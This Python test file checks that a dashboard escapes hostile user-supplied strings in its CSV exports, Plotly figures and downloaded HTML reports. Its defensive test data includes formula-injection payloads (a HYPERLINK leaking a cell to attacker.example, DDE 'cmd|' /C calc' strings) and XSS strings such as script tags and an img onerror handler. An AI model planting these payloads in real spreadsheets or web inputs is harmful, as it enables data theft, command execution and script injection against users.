"""Strings a visitor controls never become formulas or markup where they are shown again
(issue 29: script, markup and formula injection).

The data set here is hostile by construction: a column named like a spreadsheet formula, a
categorical column whose name and levels are formulas (leading ``=``, ``+``, ``-``, ``@``,
tab), a model whose one-hot encoder learned those levels. Every view's CSV export of a
drill-down on it must hold no cell a spreadsheet would run, while numbers (negative ones
included) stay numbers."""

from __future__ import annotations

import csv
import html
import io

import numpy as np
import pandas as pd
import pytest

from dashboard import jobs, views
from dashboard.callbacks.compute import resolve_state
from dashboard.callbacks.load import load_workspace
from dashboard.config import Config
from dashboard.html_report import report_html
from dashboard.server import create_app
from dashboard.state import default_state, normalize
from dashboard.views import plan_state
from dashboard.views.base import FORMULA_STARTS, csv_cell

FORMULA_COLUMN = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
LEVEL_COLUMN = "@SUM(1+1)*cmd|' /C calc'!A0"
LEVELS = ["-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1+2", "plain"]


def _load(ctx, model_name: str, model: bytes, frame: pd.DataFrame, role: str) -> str:
    """Upload a model file and the frame (target ``y``) and load them; the workspace id."""

    def upload(name: str, content: bytes) -> dict:
        token, path = ctx.store.new_upload(name)
        path.write_bytes(content)
        return {"id": token, "name": name, "size": len(content)}

    data = upload("data.csv", frame.to_csv(index=False).encode())
    result = load_workspace(ctx, [upload(model_name, model)], data, "y", None, None, [], False, None, role, False, None)
    assert "ws" in result, result
    return result["ws"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    import skops.io as sio
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestRegressor
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder

    folder = tmp_path_factory.mktemp("hostile")
    ctx = create_app(Config(cache_dir=str(folder / "cache"), max_curves=60))._wip_context
    rng = np.random.default_rng(0)
    n = 160
    frame = pd.DataFrame(
        {
            FORMULA_COLUMN: rng.normal(size=n).round(3),
            LEVEL_COLUMN: rng.choice(LEVELS, size=n),
            "plain": rng.normal(size=n).round(3),
        }
    )
    frame["y"] = (frame[FORMULA_COLUMN] - 2 * (frame[LEVEL_COLUMN] == LEVELS[0]) + 0.3 * frame.plain).round(3)
    model = make_pipeline(
        ColumnTransformer(
            [("levels", OneHotEncoder(handle_unknown="ignore"), [LEVEL_COLUMN])], remainder="passthrough"
        ),
        RandomForestRegressor(n_estimators=20, random_state=0),
    ).fit(frame.drop(columns="y"), frame.y)
    sio.dump(model, folder / "model.skops")
    return ctx, _load(ctx, "=cmd|' calc'!A0.skops", (folder / "model.skops").read_bytes(), frame, "training")


def _record(ctx, ws_id: str, feature: str) -> dict:
    ws = ctx.store.workspace(ws_id)
    state, error = normalize(
        ctx,
        {
            **default_state(),
            "ws": ws_id,
            "feature": feature,
            "obs": "3",
            "edit": {"plain": 1.5},
            "subgroup": f"`{LEVEL_COLUMN}` != 'plain'",
        },
    )
    assert error is None, error
    planned = plan_state(ctx, ws, state)
    jobs.run(ctx.store, ws, [t for t in planned["tasks"] if t["kind"] != "sfimp"], policy=ctx.policy)
    results = resolve_state(ctx, state, None).results
    assert isinstance(results, dict) and "sigs" in results, results
    return results


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("feature", [FORMULA_COLUMN, LEVEL_COLUMN])
def test_no_csv_export_holds_a_cell_a_spreadsheet_would_run(hostile, feature):
    ctx, ws_id = hostile
    record = _record(ctx, ws_id, feature)
    exported, cells = 0, []
    for button in views.exports():
        sent = views.export(ctx, button, record)
        if sent is None:
            continue
        exported += 1
        assert "=" not in sent["filename"] and "|" not in sent["filename"] and "'" not in sent["filename"]
        for cell in _cells(sent["content"]):
            cells.append(cell)
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (button, cell)
    assert exported >= 6
    # the hostile names are there, made inert, not dropped; negative numbers stay numbers
    assert "'" + FORMULA_COLUMN in cells and "'" + LEVEL_COLUMN in cells
    assert any(c.startswith("-") and _is_number(c) for c in cells)


def test_csv_cell_follows_owasp():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@A1") == "'@A1" and csv_cell("\t=1") == "'\t=1"
    assert csv_cell("+1+1") == "'+1+1" and csv_cell("-2+3+cmd|' /C calc'!A0").startswith("'-")
    assert csv_cell("\uff1dcmd") == "'\uff1dcmd"  # full-width equals sign
    assert csv_cell("-1.5") == "-1.5" and csv_cell("+2") == "+2" and csv_cell(-3.0) == -3.0
    assert csv_cell("plain = text") == "plain = text" and csv_cell(None) is None


# --- markup: Plotly draws a subset of HTML in every text it shows (links, styles, <br>) -------
LINK_COLUMN = '<a href="https://attacker.example/">click me</a>'
STYLE_COLUMN = '<span style="font-size:60px;color:red">big</span>'
MARKUP_LEVELS = ["<i>tilted</i>", "</script><script>alert(1)</script>", "&lt;b&gt;entity", "plain"]
CLASSES = ["<b>yes</b>", "<sub>no</sub>"]
MODEL_FILE = "<img src=x onerror=alert(1)>.skops"
# keys whose strings Plotly never draws (a click's value, identities for grouping and UI state)
UNDRAWN = {"customdata", "uirevision", "legendgroup", "offsetgroup"}
HOSTILE = [LINK_COLUMN, STYLE_COLUMN, *MARKUP_LEVELS[:3], *CLASSES, MODEL_FILE[: -len(".skops")]]


@pytest.fixture(scope="module")
def markup(tmp_path_factory):
    """A classifier on a data set whose column names, levels, classes and model file name are
    HTML a browser or Plotly would draw."""
    import skops.io as sio
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder

    folder = tmp_path_factory.mktemp("markup")
    ctx = create_app(Config(cache_dir=str(folder / "cache"), max_curves=60))._wip_context
    rng = np.random.default_rng(1)
    n = 200
    frame = pd.DataFrame(
        {
            LINK_COLUMN: rng.normal(size=n).round(3),
            STYLE_COLUMN: rng.choice(MARKUP_LEVELS, size=n),
            "plain": rng.normal(size=n).round(3),
        }
    )
    signal = frame[LINK_COLUMN] + 1.5 * (frame[STYLE_COLUMN] == MARKUP_LEVELS[0]) + 0.3 * frame.plain
    frame["y"] = np.where(signal + rng.normal(scale=0.5, size=n) > 0.3, CLASSES[0], CLASSES[1])
    model = make_pipeline(
        ColumnTransformer(
            [("levels", OneHotEncoder(handle_unknown="ignore"), [STYLE_COLUMN])], remainder="passthrough"
        ),
        RandomForestClassifier(n_estimators=20, random_state=0),
    ).fit(frame.drop(columns="y"), frame.y)
    sio.dump(model, folder / "model.skops")
    return ctx, _load(ctx, MODEL_FILE, (folder / "model.skops").read_bytes(), frame, "held-out")


def _markup_record(ctx, ws_id: str, feature: str) -> dict:
    ws = ctx.store.workspace(ws_id)
    state, error = normalize(
        ctx,
        {
            **default_state(),
            "ws": ws_id,
            "feature": feature,
            "obs": "4",
            "edit": {STYLE_COLUMN: MARKUP_LEVELS[1], "plain": 0.5},
            "subgroup": f"`{STYLE_COLUMN}` != 'plain'",
        },
    )
    assert error is None, error
    assert state["edit"] and state["subgroup"], state
    jobs.run(ctx.store, ws, plan_state(ctx, ws, state)["tasks"], policy=ctx.policy)
    results = resolve_state(ctx, state, None).results
    assert isinstance(results, dict) and "sigs" in results, results
    return results


def _strings(node, path=()):
    """Every string in a figure's JSON with its path of keys."""
    if isinstance(node, str):
        yield path, node
    elif isinstance(node, dict):
        for key, value in node.items():
            yield from _strings(value, (*path, key))
    elif isinstance(node, (list, tuple, np.ndarray)):
        for value in node:
            yield from _strings(value, path)


@pytest.mark.parametrize("feature", [LINK_COLUMN, STYLE_COLUMN])
def test_no_figure_draws_a_visitors_markup(markup, feature):
    """Every string of every view's figures that Plotly draws as text (titles, ticks,
    legends, hover, annotations, category values) holds the visitor's text escaped; raw
    names stay only in ``customdata`` (what a click sends back), which no hover shows."""
    ctx, ws_id = markup
    record = _markup_record(ctx, ws_id, feature)
    figures_seen, escaped_seen, drawn = 0, set(), []
    for name, out in views.render_all(ctx, record).items():
        for value in out.values():
            if not (isinstance(value, dict) or hasattr(value, "to_plotly_json")) or "layout" not in value:
                continue
            fig = value.to_plotly_json() if hasattr(value, "to_plotly_json") else value
            if not fig.get("data"):
                continue
            figures_seen += 1
            for path, text in _strings(fig):
                for hostile in HOSTILE:
                    if hostile in text and path[-1] not in UNDRAWN:
                        drawn.append((name, path, text))
                    if html.escape(hostile, quote=False) in text:
                        escaped_seen.add(hostile)
            for trace in fig["data"]:
                raw = [t for _, t in _strings(trace.get("customdata", [])) if "<" in t]
                if raw and "%{customdata" in str(trace.get("hovertemplate", "")):
                    drawn.append((name, "hovertemplate shows customdata", trace.get("hovertemplate")))
    assert not drawn, "\n".join(map(str, drawn))
    assert figures_seen >= 12
    # the visitor's text is shown, escaped, not dropped
    assert {LINK_COLUMN, STYLE_COLUMN, MARKUP_LEVELS[0], MARKUP_LEVELS[1], MODEL_FILE[:-6]} <= escaped_seen
    assert CLASSES[0] in escaped_seen or CLASSES[1] in escaped_seen


def test_the_report_holds_no_visitors_markup(markup):
    """The downloaded report is a file opened from disk (no Content-Security-Policy there):
    no visitor string may become a tag in it, in its text or its figures' JSON."""
    ctx, ws_id = markup
    report = report_html(ctx, _markup_record(ctx, ws_id, STYLE_COLUMN))
    assert report and "<script>alert(1)" not in report
    for hostile in HOSTILE:
        assert hostile not in report, hostile
    assert html.escape(LINK_COLUMN) in report  # named in the summary, escaped
